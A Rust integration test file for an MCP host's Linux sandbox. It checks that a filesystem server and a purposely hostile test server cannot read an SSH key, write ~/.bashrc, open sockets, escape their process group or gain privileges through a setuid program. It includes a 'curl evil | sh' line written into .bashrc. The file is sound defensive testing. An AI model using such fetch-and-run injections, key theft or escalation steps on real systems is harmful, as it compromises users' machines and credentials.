//! Issue 28: stdio servers run sandboxed (Landlock and seccomp, Linux). Real servers: the
//! npm reference filesystem server (pinned in tests/mcp) told that `/` is its folder, and
//! `tests/mcp/hostile_server.py` (official Python SDK) trying to get out. Each check is
//! also run with the sandbox off, where the same attempt succeeds: the sandbox, not the
//! server, refused.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stderr)]

mod common;

use std::io::Read as _;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use common::*;
use outpost_mcp::sandbox::{FolderAccess, SandboxMode, Support};
use outpost_mcp::{CallOptions, CallOutcome, McpHost, ServerConfig};

/// A user's files: a home with an SSH key and a `.bashrc`, an allowed folder, a folder
/// outside it.
struct Files {
    dir: tempfile::TempDir,
}

impl Files {
    fn new() -> Files {
        let dir = tempfile::tempdir().unwrap();
        for (path, text) in [
            (
                "home/.ssh/id_rsa",
                "-----BEGIN OPENSSH PRIVATE KEY----- sandbox-test",
            ),
            ("home/.bashrc", "# the user's bashrc\n"),
            ("allowed/notes.txt", "allowed notes"),
            ("allowed/existing.txt", "to be replaced"),
            ("outside/plan.txt", "the plan outside"),
        ] {
            let p = dir.path().join(path);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, text).unwrap();
        }
        Files { dir }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    fn home(&self) -> PathBuf {
        self.path("home")
    }
}

async fn call(host: &McpHost, server: &str, tool: &str, a: serde_json::Value) -> CallOutcome {
    host.call(server, tool, args(a), CallOptions::with_timeout(CALL))
        .await
        .unwrap_or_else(|e| panic!("{tool}: {e}"))
}

fn text(o: &CallOutcome) -> String {
    o.result["text"].as_str().unwrap_or_default().to_owned()
}

fn refused(o: &CallOutcome, what: &str) {
    let t = text(o);
    assert!(o.is_error, "{what} was not refused: {t}");
    assert!(
        t.contains("ermission denied")
            || t.contains("EACCES")
            || t.contains("EPERM")
            || t.contains("not permitted"),
        "{what}: not a permission error: {t}"
    );
}

fn filesystem_at_root(files: &Files, mode: SandboxMode, folders: FolderAccess) -> ServerConfig {
    let mut c = filesystem(Path::new("/"));
    set_env(&mut c, "HOME", &files.home().display().to_string());
    let sb = sandbox_of(&mut c);
    // Told `/` is its folder, but given only the allowed folder.
    sb.write.clear();
    sb.mode = mode;
    sb.folders = folders;
    c
}

fn landlock() -> bool {
    let s = Support::detect();
    if s.landlock == 0 {
        eprintln!("skipped: this kernel has no Landlock");
    }
    s.landlock > 0
}

/// The reference filesystem server with `/` as its folder and no roots offered (it would
/// replace its folder with them): sandboxed, it reads and writes in the allowed folder,
/// and can read neither `~/.ssh/id_rsa` nor a file outside, nor write outside. With the
/// folders read-only it cannot write inside either. Unsandboxed, it reads the key.
#[tokio::test]
async fn the_filesystem_server_at_slash_reaches_only_the_allowed_folder() {
    if !landlock() {
        return;
    }
    let files = Files::new();
    let logs = files.path("logs");
    let host = sandboxed_host(&logs, vec![files.path("allowed")]);
    host.start(
        "fs",
        filesystem_at_root(&files, SandboxMode::On, FolderAccess::ReadWrite),
    )
    .unwrap();
    host.start(
        "fsro",
        filesystem_at_root(&files, SandboxMode::On, FolderAccess::Read),
    )
    .unwrap();
    host.start(
        "open",
        filesystem_at_root(&files, SandboxMode::Off, FolderAccess::ReadWrite),
    )
    .unwrap();
    for s in ["fs", "fsro", "open"] {
        host.wait_running(s, START).await.unwrap();
    }
    let key = files.home().join(".ssh/id_rsa");
    let read = |server: &'static str, p: &Path| {
        let (host, p) = (host.clone(), p.display().to_string());
        async move {
            call(
                &host,
                server,
                "read_text_file",
                serde_json::json!({"path": p}),
            )
            .await
        }
    };
    let write = |server: &'static str, p: &Path| {
        let (host, p) = (host.clone(), p.display().to_string());
        async move {
            call(
                &host,
                server,
                "write_file",
                serde_json::json!({"path": p, "content": "written"}),
            )
            .await
        }
    };
    refused(&read("fs", &key).await, "reading ~/.ssh/id_rsa");
    refused(
        &read("fs", &files.path("outside/plan.txt")).await,
        "reading outside",
    );
    let inside = read("fs", &files.path("allowed/notes.txt")).await;
    assert!(
        !inside.is_error && text(&inside).contains("allowed notes"),
        "{}",
        text(&inside)
    );
    // Existing files: a new one would make the server list its folder's parents first
    // (it checks names for Unicode twins from its own folder, `/` here, down), which the
    // sandbox refuses before any write is tried.
    refused(
        &write("fs", &files.path("outside/plan.txt")).await,
        "writing outside",
    );
    assert_eq!(
        std::fs::read_to_string(files.path("outside/plan.txt")).unwrap(),
        "the plan outside"
    );
    refused(
        &write("fs", &files.home().join(".bashrc")).await,
        "writing ~/.bashrc",
    );
    assert_eq!(
        std::fs::read_to_string(files.home().join(".bashrc")).unwrap(),
        "# the user's bashrc\n"
    );
    let wrote = write("fs", &files.path("allowed/existing.txt")).await;
    assert!(!wrote.is_error, "{}", text(&wrote));
    assert_eq!(
        std::fs::read_to_string(files.path("allowed/existing.txt")).unwrap(),
        "written"
    );
    // Read-only folders: read inside, no write.
    let ro = read("fsro", &files.path("allowed/notes.txt")).await;
    assert!(!ro.is_error, "{}", text(&ro));
    refused(
        &write("fsro", &files.path("allowed/notes.txt")).await,
        "writing read-only",
    );
    assert_eq!(
        std::fs::read_to_string(files.path("allowed/notes.txt")).unwrap(),
        "allowed notes"
    );
    // The same server unsandboxed reads the key: the sandbox refused, not the server.
    let open = read("open", &key).await;
    assert!(
        !open.is_error && text(&open).contains("sandbox-test"),
        "{}",
        text(&open)
    );
    // What the snapshot says each may touch.
    let snap = host.snapshot();
    let reach = snap["fs"].reach.clone().unwrap();
    assert!(reach.sandboxed() && !reach.network, "{reach:?}");
    assert!(
        reach
            .summary()
            .contains(&files.path("allowed").display().to_string()),
        "{}",
        reach.summary()
    );
    assert!(
        snap["open"]
            .reach
            .as_ref()
            .unwrap()
            .summary()
            .contains("NOT sandboxed")
    );
    // The log says it too.
    let log = std::fs::read_to_string(logs.join("fs.log")).unwrap();
    assert!(log.contains("--- sandboxed: reads and writes"), "{log}");
    host.shutdown();
}

/// Every way out the hostile server tries, sandboxed and not.
struct Escape {
    listener: std::net::TcpListener,
    udp: std::net::UdpSocket,
    unix: PathBuf,
    _unix_listener: std::os::unix::net::UnixListener,
    suid: Option<PathBuf>,
}

impl Escape {
    fn new(files: &Files) -> Escape {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        udp.set_read_timeout(Some(Duration::from_millis(300)))
            .unwrap();
        let unix = files.path("outside/agent.sock");
        let unix_listener = std::os::unix::net::UnixListener::bind(&unix).unwrap();
        // A setuid program owned by another user (nobody): run without no_new_privs, it
        // runs as that user.
        let suid = rustix::process::geteuid().is_root().then(|| {
            let p = files.path("bin/suid-id");
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::copy("/usr/bin/id", &p).unwrap();
            let nobody = rustix::process::Uid::from_raw(65534);
            rustix::fs::chown(&p, Some(nobody), None).unwrap();
            use std::os::unix::fs::PermissionsExt as _;
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o4755)).unwrap();
            p
        });
        Escape {
            listener,
            udp,
            unix,
            _unix_listener: unix_listener,
            suid,
        }
    }

    fn tcp_port(&self) -> u16 {
        self.listener.local_addr().unwrap().port()
    }

    fn udp_port(&self) -> u16 {
        self.udp.local_addr().unwrap().port()
    }

    fn tcp_arrived(&self) -> bool {
        let deadline = Instant::now() + Duration::from_millis(500);
        while Instant::now() < deadline {
            if let Ok((mut s, _)) = self.listener.accept() {
                let mut buf = String::new();
                let _ = s.read_to_string(&mut buf);
                return true;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        false
    }

    fn udp_arrived(&self) -> bool {
        let mut buf = [0u8; 64];
        self.udp.recv(&mut buf).is_ok()
    }
}

fn alive(pid: u32) -> bool {
    Path::new(&format!("/proc/{pid}")).exists()
        && !std::fs::read_to_string(format!("/proc/{pid}/stat"))
            .unwrap_or_default()
            .contains(") Z ")
}

fn hostile_for(files: &Files, mode: SandboxMode) -> ServerConfig {
    let mut c = hostile(&[]);
    set_env(&mut c, "HOME", &files.home().display().to_string());
    let sb = sandbox_of(&mut c);
    sb.mode = mode;
    sb.read = vec![files.path("bin")];
    c
}

fn orphan_pid(o: &CallOutcome) -> u32 {
    text(o)
        .split_whitespace()
        .next()
        .and_then(|p| p.parse().ok())
        .unwrap_or_else(|| panic!("no pid in {}", text(o)))
}

/// The hostile server tries to read the SSH key, write `~/.bashrc`, reach a loopback TCP
/// port and a UDP one with the network off, connect to a Unix socket, leave its process
/// group with a helper that outlives the server, gain another user through a setuid
/// program, clear no_new_privs and signal a process outside: sandboxed, every attempt is
/// refused and told as the tool's error, the server keeps running (same process), and
/// stopping it leaves no helper behind. Unsandboxed, the same attempts succeed.
#[tokio::test]
async fn a_hostile_server_cannot_get_out_and_keeps_running() {
    if !landlock() {
        return;
    }
    let files = Files::new();
    std::fs::create_dir_all(files.path("bin")).unwrap();
    let escape = Escape::new(&files);
    let host = sandboxed_host(&files.path("logs"), vec![files.path("allowed")]);
    host.start("boxed", hostile_for(&files, SandboxMode::On))
        .unwrap();
    host.wait_running("boxed", START).await.unwrap();
    let pid = host.snapshot()["boxed"].pid.unwrap();
    let s = "boxed";
    let key = files.home().join(".ssh/id_rsa").display().to_string();
    let bashrc = files.home().join(".bashrc");

    refused(
        &call(&host, s, "read_file", serde_json::json!({"path": key})).await,
        "reading the key",
    );
    let w = call(
        &host,
        s,
        "write_file",
        serde_json::json!({"path": bashrc.display().to_string(), "text": "curl evil | sh\n"}),
    )
    .await;
    refused(&w, "writing ~/.bashrc");
    assert_eq!(
        std::fs::read_to_string(&bashrc).unwrap(),
        "# the user's bashrc\n"
    );
    refused(
        &call(
            &host,
            s,
            "tcp_connect",
            serde_json::json!({"port": escape.tcp_port()}),
        )
        .await,
        "a TCP connection with the network off",
    );
    assert!(!escape.tcp_arrived());
    refused(
        &call(
            &host,
            s,
            "udp_send",
            serde_json::json!({"port": escape.udp_port()}),
        )
        .await,
        "a UDP datagram with the network off",
    );
    assert!(!escape.udp_arrived());
    refused(
        &call(
            &host,
            s,
            "unix_connect",
            serde_json::json!({"path": escape.unix.display().to_string()}),
        )
        .await,
        "a Unix socket",
    );
    let orphan = call(&host, s, "orphan", serde_json::json!({"seconds": 60})).await;
    let t = text(&orphan);
    assert!(
        t.contains("setsid refused") && t.contains("setpgid refused"),
        "the helper left its group: {t}"
    );
    let helper = orphan_pid(&orphan);
    assert!(alive(helper));
    let nnp = call(&host, s, "no_new_privs", serde_json::json!({})).await;
    assert!(text(&nnp).contains("no_new_privs=1"), "{}", text(&nnp));
    if let Some(suid) = &escape.suid {
        let id = call(
            &host,
            s,
            "run",
            serde_json::json!({"argv": [suid.display().to_string(), "-u"]}),
        )
        .await;
        assert_eq!(text(&id), "0", "the setuid program changed user");
    }
    if Support::detect().landlock >= 6 {
        refused(
            &call(
                &host,
                s,
                "signal",
                serde_json::json!({"pid": std::process::id()}),
            )
            .await,
            "a signal to Outpost",
        );
    }
    // Still the same process, still serving, reading inside its folder.
    std::fs::write(files.path("allowed/ok.txt"), "fine").unwrap();
    let ok = call(
        &host,
        s,
        "read_file",
        serde_json::json!({"path": files.path("allowed/ok.txt").display().to_string()}),
    )
    .await;
    assert!(!ok.is_error && text(&ok) == "fine", "{}", text(&ok));
    let snap = host.snapshot();
    assert_eq!((snap[s].pid, snap[s].starts), (Some(pid), 1));
    // The refusals are in its log too (the server's stderr), and so is its sandbox.
    host.shutdown();
    let gone = Instant::now() + Duration::from_secs(5);
    while alive(helper) && Instant::now() < gone {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(!alive(helper), "the helper {helper} outlived its server");

    // Unsandboxed, the same attempts get out.
    let host = sandboxed_host(&files.path("logs2"), Vec::new());
    host.start("open", hostile_for(&files, SandboxMode::Off))
        .unwrap();
    host.wait_running("open", START).await.unwrap();
    let s = "open";
    let r = call(&host, s, "read_file", serde_json::json!({"path": key})).await;
    assert!(text(&r).contains("sandbox-test"), "{}", text(&r));
    let c = call(
        &host,
        s,
        "tcp_connect",
        serde_json::json!({"port": escape.tcp_port()}),
    )
    .await;
    assert!(!c.is_error && escape.tcp_arrived(), "{}", text(&c));
    let u = call(
        &host,
        s,
        "udp_send",
        serde_json::json!({"port": escape.udp_port()}),
    )
    .await;
    assert!(!u.is_error && escape.udp_arrived(), "{}", text(&u));
    let orphan = call(&host, s, "orphan", serde_json::json!({"seconds": 60})).await;
    assert!(text(&orphan).contains("setsid ok"), "{}", text(&orphan));
    let helper = orphan_pid(&orphan);
    if let Some(suid) = &escape.suid {
        let id = call(
            &host,
            s,
            "run",
            serde_json::json!({"argv": [suid.display().to_string(), "-u"]}),
        )
        .await;
        assert_eq!(text(&id), "65534", "{}", text(&id));
    }
    host.shutdown();
    std::thread::sleep(Duration::from_millis(500));
    // Out of its group, the helper outlives the server here: end it.
    assert!(alive(helper), "unsandboxed, the helper should have got out");
    let _ = rustix::process::kill_process(
        rustix::process::Pid::from_raw(helper as i32).unwrap(),
        rustix::process::Signal::KILL,
    );
}

/// A server needing what is not there: where the kernel has no Landlock, a server is not
/// started unless the user agreed to run it unsandboxed ("if-available"); the status and
/// error say so. (The kernel here has Landlock: the host is told it has none.)
#[tokio::test]
async fn without_landlock_a_server_waits_for_the_user() {
    let dir = tempfile::tempdir().unwrap();
    let mut connect = connect_options(dir.path());
    connect.sandbox.support = Support::none();
    let host = McpHost::new(
        outpost_mcp::HostOptions::new(
            connect,
            std::sync::Arc::new(outpost_mcp::MemorySecrets::default()),
        ),
        Vec::new(),
    );
    host.start("e", everything()).unwrap();
    let mut agreed = everything();
    sandbox_of(&mut agreed).mode = SandboxMode::IfAvailable;
    host.start("agreed", agreed).unwrap();
    let err = host.wait_running("e", START).await.unwrap_err().to_string();
    assert!(err.contains("cannot be sandboxed"), "{err}");
    let snap = host.snapshot();
    assert_eq!(snap["e"].status, outpost_mcp::ServerStatus::NoSandbox);
    let why = snap["e"].last_error.clone().unwrap();
    assert!(
        why.contains("Landlock") && why.contains("unsandboxed"),
        "{why}"
    );
    host.wait_running("agreed", START).await.unwrap();
    let reach = host.snapshot()["agreed"].reach.clone().unwrap();
    assert!(
        reach.summary().contains("NOT sandboxed"),
        "{}",
        reach.summary()
    );
    host.shutdown();
}
